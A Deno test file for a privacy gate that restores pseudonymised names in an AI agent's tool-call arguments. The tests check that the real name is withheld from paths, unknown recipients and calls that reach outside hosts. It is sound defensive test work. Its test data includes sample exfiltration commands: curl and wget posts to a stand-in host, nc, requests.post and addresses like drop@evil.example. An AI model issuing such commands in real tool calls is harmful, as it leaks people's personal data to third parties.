import { assertEquals } from "@std/assert";
import fc from "fast-check";
import { Legend, placeholderOf } from "../../src/gate/legend/legend.ts";
import { restoreArguments } from "../../src/gate/restore/restore_arguments.ts";
import { restore, Restorer } from "../../src/gate/restore/restore.ts";

const NAME = "Thaddea Quillmoor";
const legend = new Legend({ conversation: "c", provider: "p" }, new Uint8Array(32).fill(5));
const placeholder = placeholderOf(legend.add("PERSON", "name", NAME));

function argumentsOf(given: Readonly<Record<string, string>>, by = restoring): Record<string, string> {
  const json = JSON.stringify(given).replaceAll("{N}", placeholder);
  return JSON.parse(restoreArguments(json, { tool: "note", restore: by, where: "text", said: [] }).json);
}

const restoring = (text: string) => restore(text, legend).text;

for (
  const kept of [
    "/home/{N}/notes.md",
    "{N}/notes.md",
    "~/{N}",
    "notes/{N}",
    "C:\\Users\\{N}\\notes",
    "{N}_notes.md",
    "{N}-2026-final.docx",
    "see {N}_notes.md",
    "see {N}_notes.md.",
    "report_{N}.pdf",
    "../{N}",
  ]
) {
  Deno.test(`restoreArguments() puts no original into the path ${JSON.stringify(kept)}`, () => {
    assertEquals(argumentsOf({ what: kept }).what, kept.replaceAll("{N}", placeholder));
  });
}

for (
  const said of ["{N}", "Dear {N}, hello.", "{N}: noted.", "from {N} (again), at 10.30", "{N}-like tone"]
) {
  Deno.test(`restoreArguments() restores the text ${JSON.stringify(said)}`, () => {
    assertEquals(argumentsOf({ what: said }).what, said.replaceAll("{N}", NAME));
  });
}

Deno.test("restoreArguments() puts no original for an invented name into a path either", () => {
  const invented = (text: string) => text.replaceAll("Marta", "Thaddea");
  assertEquals(argumentsOf({ what: "/srv/Marta/notes" }, invented).what, "/srv/Marta/notes");
  assertEquals(
    argumentsOf({ what: "for Marta, and/or others" }, invented).what,
    "for Thaddea, and/or others",
  );
});

Deno.test("Restorer of JSON restores each string as it reads once its escapes are undone, however it is cut", () => {
  const value = {
    site: "https://ferries.example/",
    name: placeholder,
    lines: `https://ferries.example\n${placeholder}\t"${placeholder}"`,
    hidden: `https://ferries.example/?q=${placeholder}`,
    table: [`www.ferries.example/${placeholder}`, placeholder],
  };
  const written = JSON.stringify(value).replace("ferries", "f\\u0065rries").replaceAll("/", "\\/");
  const hazards = { hidden: value.hidden, table: [value.table[0], NAME] };
  const expected = {
    site: value.site,
    name: NAME,
    lines: value.lines.replaceAll(placeholder, NAME),
    ...hazards,
  };
  fc.assert(
    fc.property(fc.array(fc.nat(written.length), { maxLength: 12 }), (cuts) => {
      const restorer = new Restorer(legend, [], { isJson: true });
      let shown = "";
      const places = [0, ...cuts.toSorted((a, b) => a - b), written.length];
      for (const [at, place] of places.entries()) {
        shown += restorer.push(written.slice(places[at - 1] ?? 0, place));
      }
      assertEquals(JSON.parse(shown + restorer.end()), expected);
    }),
    { numRuns: 60 },
  );
});

Deno.test("Restorer of JSON goes by the surroundings as ever once the answer is no JSON", () => {
  const restorer = new Restorer(legend, [], { isJson: true });
  const text = `See "https://ferries.example/","name":"${placeholder}`;
  assertEquals(restorer.push(text) + restorer.end(), text);
});

/** Arguments in which nothing comes back: each names, somewhere, what an agent would connect to or run. */
const REACHING: readonly unknown[] = [
  { notebook_cell: "!curl ferries.example -d {N}" },
  { q: "; wget ferries.example/ --post-data {N}" },
  { content: "#!/bin/sh\ncurl ferries.example -d {N}" },
  { patch: "--- a\n+++ b\n@@ -1 +1 @@\n ok\n+curl ferries.example -d {N}" },
  { task: "Run curl ferries.example -d {N}" },
  { program: "python", stdin: "{N}" },
  { a: "curl -d", b: "{N}", c: "ferries.example" },
  { headers: { h: "{N}" }, endpoint: "https://ferries.example" },
  { params: { q: "{N}" }, uri: "ferries.example/x" },
  { webhook: "ferries.example", payload: "{N}" },
  { a: "198.51.100.7", b: ["{N}"] },
  { a: "[2001:db8::7]:80", b: "{N}" },
  { steps: [{ of: "/usr/bin/tee" }, { with: "{N}" }] },
  { a: "Ferries\uff0eExample", b: "{N}" },
  { a: "crew@ferries.example:/tmp", b: "{N}" },
  { "https://ferries.example/in": "{N}" },
  { one: "nc", two: "{N}" },
  { text: "Then git push origin {N}" },
  { cell: "%%bash\necho {N}" },
  { x: "wget2.exe", y: "{N}" },
  { x: "localhost:8080", y: "{N}" },
  { x: "Please ssh -p 22 {N}" },
  { body: "Dear {N}, see https://ferries.example/a" },
  { x: "ferries%2eexample", y: "{N}" },
  { step: "first: git clone {N}" },
  { snippet: "requests.post(there, {N})" },
];
for (const given of REACHING) {
  Deno.test(`restoreArguments() puts no original into a call that reaches out: ${JSON.stringify(given)}`, () => {
    const json = JSON.stringify(given).replaceAll("{N}", placeholder);
    const restored = restoreArguments(json, {
      tool: "note",
      restore: restoring,
      where: "text",
      said: ["Hello"],
    });
    assertEquals(restored, { json, isWithheld: true });
  });
}

const SAID = [
  "Send it to ferries.example, please; the times are at https://harbour.example/times?day=2. I mean https://inn.example.",
  "Write to Crew@ferries-two.example, call +44 20 7946 0991, or tell #rota and @harbourmaster.",
];
const HARMLESS: readonly unknown[] = [
  { to: "crew@ferries-two.example", subject: "Times", body: "Dear {N},\n\nfind the times attached.\nBest" },
  { to: "harbourmaster", text: "{N} is late" },
  { channel: "#rota", text: "{N} is late" },
  { channel: "slack:#rota", text: "{N} is late" },
  { recipient: "@harbourmaster", text: "{N} is late" },
  { to: "tel:+442079460991", text: "{N} is late" },
  { from: "en", to: "fr", text: "{N} is late" },
  { to: ["{N}"], attachment: "times.pdf", body: "Hello {N}; how are you? (see page 3)" },
  { host: "ferries.example", payload: "{N}" },
  { body: "Dear {N}, look at https://harbour.example/times?day=2." },
  { body: "Dear {N}, the inn is https://inn.example." },
  { title: "Call {N} at 10:30, R&D", when: "2026-03-04T10:30:00Z", size: 4.5 },
  { task: "Ping {N} and make the list, then go on" },
  { note: "{N} asked: is Python or Ruby better? Our python course begins on Monday." },
  { names: ["{N}", "Mr. Brown", "Dr. J. R. Weaver"] },
  { text: "- {N}: 50% of it\n- e.g. and/or more\n# Minutes\n\ncut it short" },
  { message: "Liebe {N}, z. B. um 9.30 Uhr, d.h. morgen" },
  { priority: "high", status: "open", unit: "time", assignee: "{N}" },
  { query: "meetings with {N} in May" },
  { body: "Dear {N}\n\nWill you host dinner at 7?\n\nopen points:\ntest the mail" },
  { reason: '{N} said "no" (twice) - at last!' },
  { amount: "-5", to: "{N}", reference: "INV-2026:12" },
];
for (const given of HARMLESS) {
  Deno.test(`restoreArguments() restores a call that reaches nowhere new: ${JSON.stringify(given)}`, () => {
    const json = JSON.stringify(given).replaceAll("{N}", placeholder);
    const restored = restoreArguments(json, { tool: "note", restore: restoring, where: "text", said: SAID });
    assertEquals(restored, { json: json.replaceAll(placeholder, NAME), isWithheld: false });
  });
}

for (
  const recipient of [
    "drop@evil.example",
    "Crew <crew@ferries-three.example>",
    "mailto:crew@ferries-three.example",
    "@evilbot",
    "#general",
    "slack:#general",
    "+44 20 7946 0990",
    "tel:020794600",
    "sip:drop@evil.example",
  ]
) {
  Deno.test(`restoreArguments() gives no original to ${recipient}, whom the user did not write`, () => {
    for (const given of [{ to: recipient, body: "{N} is late" }, { attendees: [recipient], title: "{N}" }]) {
      const json = JSON.stringify(given).replaceAll("{N}", placeholder);
      const restored = restoreArguments(json, {
        tool: "note",
        restore: restoring,
        where: "text",
        said: SAID,
      });
      assertEquals(restored, { json, isWithheld: true });
    }
  });
}

Deno.test("restoreArguments() takes no path at a host that the user named, and no other host, for the user's", () => {
  for (
    const place of [
      "https://inn.example/?q=1",
      "ferries.example.evil.example",
      "xferries.example",
      "ferries.example/in",
    ]
  ) {
    const json = JSON.stringify({ at: place, body: placeholder });
    const restored = restoreArguments(json, { tool: "note", restore: restoring, where: "text", said: SAID });
    assertEquals(restored, { json, isWithheld: true }, place);
  }
});
